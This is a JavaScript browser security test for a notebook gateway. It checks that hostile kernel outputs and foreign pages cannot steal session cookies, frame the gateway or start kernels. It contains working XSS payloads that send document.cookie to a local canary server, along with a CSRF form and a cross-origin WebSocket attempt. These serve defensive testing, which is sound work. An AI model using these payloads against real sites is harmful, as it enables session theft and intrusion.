// What a kernel puts out, in headless Chromium, with somebody signed in: it reaches neither the gateway nor anybody else.
// Each output is first shown by a careless page, where it must succeed, or else it proves nothing. Then the gateway's
// own page shows it; then the gateway's responses that hold it are opened, framed and asked for by pages elsewhere.
// Prints one JSON object; screenshots are kept in E2E_ARTEFACTS.
'use strict';

const assert = require('node:assert/strict');
const { mkdtempSync, rmSync } = require('node:fs');
const http = require('node:http');
const { tmpdir } = require('node:os');
const path = require('node:path');
const { openBrowser } = require('./lab.cjs');

const GATEWAY = process.env.CELLBLOCK_URL.replace(/\/$/, '');
const TOKEN = process.env.CELLBLOCK_TOKEN;
const START = 60_000; // milliseconds for a kernel to start
const SETTLE = 1_500; // milliseconds for what an output tries on the network

/** The outputs, by name: HTML that tells `canary` when it gets its way. */
const outputs = canary => ({
  script: `<script>fetch('${canary}/script?c=' + encodeURIComponent(document.cookie), {mode: 'no-cors'})</script>`,
  image: `<img src="${canary}/image">`,
  handler: `<img src="data:," onerror="fetch('${canary}/handler?c=' + document.cookie, {mode: 'no-cors'})">`,
  svg: `<svg xmlns="http://www.w3.org/2000/svg" onload="fetch('${canary}/svg?c=' + document.cookie, {mode: 'no-cors'})"></svg>`,
  form: `<form id="f" action="${canary}/form" method="post" target="sink"><input name="p"></form><iframe name="sink"></iframe><script>document.getElementById('f').submit()</script>`,
  link: `<a id="l" href="javascript:fetch('${canary}/link?c=' + document.cookie, {mode: 'no-cors'})">here</a><script>document.getElementById('l').click()</script>`,
  frame: `<iframe src="${canary}/frame"></iframe>`,
  srcdoc: `<iframe srcdoc="<script>fetch('${canary}/srcdoc', {mode: 'no-cors'})</script>"></iframe>`,
  style: `<style>@import url("${canary}/style");</style>`,
  sheet: `<link rel="stylesheet" href="${canary}/sheet">`,
  object: `<object data="${canary}/object"></object>`,
  refresh: `<meta http-equiv="refresh" content="0;url=${canary}/refresh">`,
  top: `<script>top.location = '${canary}/top?c=' + document.cookie</script>`,
  popup: `<script>window.open('${canary}/popup?opener')</script>`,
  worker: `<script>navigator.serviceWorker.register('/worker.js').then(() => fetch('${canary}/worker', {mode: 'no-cors'}))</script>`,
  api: `<script>fetch('/api/me', {credentials: 'include'}).then(r => r.ok && fetch('${canary}/api', {mode: 'no-cors'}))</script>`
});

/** What tries the same where no HTML is expected. */
const oddities = canary => ({
  'image/svg+xml': `<svg xmlns="http://www.w3.org/2000/svg" width="120" height="40" onload="fetch('${canary}/odd-svg')"><script>fetch('${canary}/odd-svg')</script><image href="${canary}/odd-svg" width="9" height="9"/><foreignObject width="99" height="99"><img xmlns="http://www.w3.org/1999/xhtml" src="${canary}/odd-svg"/></foreignObject><rect width="120" height="40" fill="teal"/></svg>`,
  'image/png': `" onerror="fetch('${canary}/odd-png')" x="`,
  'application/javascript': `fetch('${canary}/odd-js')`,
  'text/markdown': `![x](${canary}/odd-md) [y](javascript:fetch('${canary}/odd-md'))`,
  'text/latex': `\\href{javascript:fetch('${canary}/odd-latex')}{x}`
});

/** A server that remembers who came. */
async function listen(answer) {
  const visits = [];
  const server = http.createServer((request, response) => {
    let body = '';
    request.on('data', part => { body += part; });
    request.on('end', () => {
      visits.push({ url: request.url, cookie: request.headers.cookie ?? '', authorization: request.headers.authorization ?? '', body });
      answer(request, response);
    });
  });
  await new Promise(resolve => server.listen(0, '127.0.0.1', resolve));
  return { server, visits, port: server.address().port, url: `http://127.0.0.1:${server.address().port}` };
}

const html = (response, text) => { response.writeHead(200, { 'Content-Type': 'text/html' }); response.end(text); };

/** A page elsewhere that does to the gateway what it can with the cookies of whoever looks at it. */
const foreign = kernel => `<!doctype html><title>evil</title><iframe id="f" src="${GATEWAY}/api/kernels/${kernel}/journal"></iframe>
<iframe src="${GATEWAY}/"></iframe><script src="${GATEWAY}/api/kernels/${kernel}/journal"></script>
<form id="p" method="post" enctype="text/plain" action="${GATEWAY}/api/kernels" target="f2"><input name='{"name":"python3","x":"' value='"}'></form><iframe name="f2"></iframe>
<script>
const tries = {};
const tell = (name, promise) => promise.then(x => { tries[name] = String(x); }, e => { tries[name] = 'failed ' + e.name; });
const socket = () => new Promise((open, close) => {
  const s = new WebSocket('${GATEWAY.replace('http', 'ws')}/api/kernels/${kernel}/channels');
  s.onopen = () => open('opened'); s.onerror = () => close(new Error('refused'));
});
window.done = Promise.all([
  tell('WebSocket', socket()),
  tell('fetch', fetch('${GATEWAY}/api/kernels', { credentials: 'include' }).then(r => r.text())),
  tell('no-cors', fetch('${GATEWAY}/api/kernels', { method: 'POST', mode: 'no-cors', credentials: 'include', body: '{}' }).then(r => r.type)),
  tell('json', fetch('${GATEWAY}/api/kernels', { method: 'POST', credentials: 'include', headers: { 'Content-Type': 'application/json' }, body: '{}' }).then(r => r.status)),
]).then(() => tries);
document.getElementById('p').submit();
</script>`;

class Visit {
  constructor(context, canary) {
    Object.assign(this, { context, canary, page: context.pages()[0], faults: [], popups: 0 });
    this.page.setDefaultTimeout(20_000);
    this.page.on('dialog', dialog => { this.faults.push(`dialog: ${dialog.message()}`); dialog.dismiss(); });
    context.on('page', () => { this.popups++; });
  }

  shot(name) { return this.page.screenshot({ path: path.join(process.env.E2E_ARTEFACTS, `output_${name}.png`) }); }

  sees(selector, pattern, timeout = START) {
    return this.page.locator(selector).filter({ hasText: pattern }).first().waitFor({ timeout });
  }

  /** Signs in and starts a kernel; returns its id. */
  async start() {
    const { page } = this;
    await page.goto(`${GATEWAY}/login`);
    await page.fill('#token', TOKEN);
    await page.press('#token', 'Enter');
    await this.sees('.starter', /Start/);
    await page.click('.starter');
    await this.sees('.pill', /idle/);
    const list = await (await page.request.get(`${GATEWAY}/api/kernels`)).json();
    return list.sort((a, b) => a.last_activity.localeCompare(b.last_activity)).at(-1).id;
  }

  async run(code, end = /Done in/) {
    await this.page.fill('.code', code);
    await this.page.press('.code', 'Shift+Enter');
    await this.sees('.status', end);
  }
}

/** careless shows each output as a page would that trusts it, in a site with a cookie. All must reach the canary. */
async function careless(context, canary) {
  const rows = outputs(canary.url);
  const weak = await listen((request, response) => {
    const name = new URL(request.url, 'http://x').searchParams.get('show');
    if (request.url === '/worker.js') { response.writeHead(200, { 'Content-Type': 'text/javascript' }); return response.end(''); }
    if (request.url === '/api/me') return html(response, '{}');
    response.setHeader('Set-Cookie', 'careless=session');
    html(response, `<!doctype html><body>${rows[name] ?? ''}`);
  });
  await Promise.all(Object.keys(rows).map(async name => {
    const page = await context.newPage();
    const came = () => canary.visits.some(v => v.url.startsWith(`/${name}`));
    await page.goto(`${weak.url}/?show=${name}`).catch(() => undefined); // some lead the page away at once
    for (let i = 0; i < 100 && !came(); i++) await page.waitForTimeout(100);
    assert.ok(came(), `the output "${name}" does nothing even on a careless page`);
  }));
  assert.ok(canary.visits.some(v => v.url.includes('careless%3Dsession')), 'no output read the careless page\'s cookie');
  for (const other of context.pages().slice(1)) await other.close();
  weak.server.close();
}

/** shown has the gateway's own page show all of it. */
async function shown(v) {
  const { page, canary } = v;
  const hostile = Object.values(outputs(canary.url));
  const code = `from IPython.display import display, HTML, Javascript
from IPython import get_ipython
for text in ${JSON.stringify(hostile)}:
    display(HTML(text)); display({"text/html": text, "text/plain": text}, raw=True); print(text)
    display({"text/html": [text]}, raw=True, metadata={"isolated": False, "text/html": {"isolated": False}}); display(Javascript(text))
for kind, text in ${JSON.stringify(oddities(canary.url))}.items():
    display({kind: text, "text/plain": "odd"}, raw=True); display({kind: text}, raw=True)
h = display({"text/plain": "before"}, raw=True, display_id="d"); display({"text/html": ${JSON.stringify(hostile[0])}}, raw=True, display_id="d", update=True)
print("\\x1b]8;;javascript:fetch('${canary.url}/osc')\\x1b\\\\a link\\x1b]8;;\\x1b\\\\ \\x1b[31mred\\x1b[0m")
class Odd:
    def _repr_html_(self): return ${JSON.stringify(hostile[0])}
    def __repr__(self): return ${JSON.stringify(hostile[1])}
get_ipython().payload_manager.write_payload({"source": "page", "data": {"text/html": ${JSON.stringify(hostile[2])}, "text/plain": ${JSON.stringify(hostile[2])}}, "start": 0})
Odd()`;
  await v.run(code);
  await v.shot('page');
  await v.run(`raise type(${JSON.stringify(hostile[2].slice(0, 60))}, (Exception,), {})(${JSON.stringify(hostile[0])})`, /Ended with/);
  await v.shot('error');
  await page.fill('.code', `input(${JSON.stringify(hostile[2])})`);
  await page.press('.code', 'Shift+Enter');
  await page.locator('.question').waitFor();
  await v.shot('question');
  await page.keyboard.press('Enter');
  await v.sees('.status', /Done in/);
  await page.waitForTimeout(SETTLE);
  const inside = await page.evaluate(async () => ({
    markup: document.querySelectorAll('.output :is(script, iframe, object, embed, form, meta, base, link, style, svg, a)').length,
    scripts: document.querySelectorAll('script, iframe, object, embed, base, meta[http-equiv=refresh]').length,
    images: [...document.querySelectorAll('.output img')].filter(i => !i.src.startsWith('data:image/')).length,
    workers: (await navigator.serviceWorker.getRegistrations()).length,
    title: document.title, cookie: document.cookie
  }));
  assert.deepEqual({ ...inside, cookie: '' }, { markup: 0, scripts: 1, images: 0, workers: 0, title: 'Cellblock', cookie: '' });
  assert.ok(!inside.cookie.includes('cellblock-session'), 'scripts can read the session cookie');
  assert.equal(page.frames().length, 1);
  assert.ok(page.url().startsWith(`${GATEWAY}/`), `the page was led to ${page.url()}`);
}

/** echoed opens the responses that hold what a kernel or a client said. */
async function echoed(v, kernel) {
  const { page, canary } = v;
  const name = encodeURIComponent(outputs(canary.url).handler);
  const addresses = {
    journal: `/api/kernels/${kernel}/journal?since=0`, kernels: '/api/kernels', sessions: '/api/sessions', me: `/api/me?permissions=${name}`,
    unknown: `/api/kernels/${name}`, error: `/api/${name}`, spec: `/api/kernelspecs/${name}`, 'login error': `/login?error=${name}`
  };
  for (const [what, address] of Object.entries(addresses)) {
    const response = await page.goto(GATEWAY + address);
    const h = response.headers();
    assert.equal(h['x-content-type-options'], 'nosniff', what);
    if (what === 'login error') continue;
    assert.equal(h['content-type'], 'application/json', what);
    assert.match(h['content-security-policy'], /default-src 'none'.*frame-ancestors 'none'; sandbox$/, what);
    const inside = await page.evaluate(async () => {
      const attempt = f => { try { return f(); } catch (e) { return e.name; } };
      return {
        origin: self.origin, cookie: attempt(() => document.cookie), storage: attempt(() => String(localStorage.length)),
        fetched: await fetch('/api/me', { credentials: 'include' }).then(r => r.status, e => e.name), popup: attempt(() => String(window.open('/'))),
        elements: document.querySelectorAll('script, img, iframe, form').length
      };
    });
    assert.deepEqual(inside, { origin: 'null', cookie: 'SecurityError', storage: 'SecurityError', fetched: 'TypeError', popup: 'null', elements: 0 }, what);
    if (what === 'journal') {
      assert.match(await response.text(), /onerror/, 'the journal does not hold the output');
      await v.shot('journal');
    }
  }
}

/** elsewhere looks at a page of another origin, of the same site and of another one. */
async function elsewhere(v, kernel, evil) {
  const tries = {};
  const count = async () => (await (await v.page.request.get(`${GATEWAY}/api/kernels`)).json()).length;
  const before = await count();
  for (const host of ['127.0.0.1', 'localhost']) {
    await v.page.goto(`http://${host}:${evil.port}/`);
    tries[host] = await v.page.evaluate(() => window.done);
    assert.deepEqual(tries[host], { WebSocket: 'failed Error', fetch: 'failed TypeError', 'no-cors': 'opaque', json: 'failed TypeError' });
    await v.page.waitForTimeout(SETTLE / 3);
    const framed = v.page.frames().filter(f => f.url().startsWith(GATEWAY) && f.parentFrame());
    for (const frame of framed) assert.ok(!/kernel|Cellblock/.test(await frame.content()), `a foreign page frames ${frame.url()}`);
    await v.shot(`elsewhere_${host}`);
  }
  assert.equal(await count(), before, 'a foreign page started a kernel');
  return tries;
}

async function main() {
  const profile = mkdtempSync(path.join(tmpdir(), 'cellblock-output-'));
  const context = await openBrowser(profile);
  const canary = await listen((_, response) => { response.writeHead(200, { 'Content-Type': 'text/html', 'Access-Control-Allow-Origin': '*' }); response.end(''); });
  let kernel = '';
  const evil = await listen((_, response) => html(response, foreign(kernel)));
  const v = new Visit(context, canary);
  try {
    await careless(context, canary);
    const proved = canary.visits.splice(0).length;
    v.popups = 0;
    kernel = await v.start();
    await shown(v);
    await echoed(v, kernel);
    assert.deepEqual(canary.visits, [], 'an output got out');
    const tries = await elsewhere(v, kernel, evil);
    assert.equal(v.popups, 0, 'a window was opened');
    assert.deepEqual(v.faults, []);
    console.log(JSON.stringify({ outputs: Object.keys(outputs('')).length, proved_on_a_careless_page: proved, elsewhere: tries.localhost }));
  } catch (error) {
    await v.shot('failed').catch(() => undefined);
    throw error;
  } finally {
    await context.close();
    rmSync(profile, { recursive: true, force: true });
    canary.server.close();
    evil.server.close();
  }
}

main().then(() => process.exit(0), error => {
  console.error(error);
  process.exit(1);
});
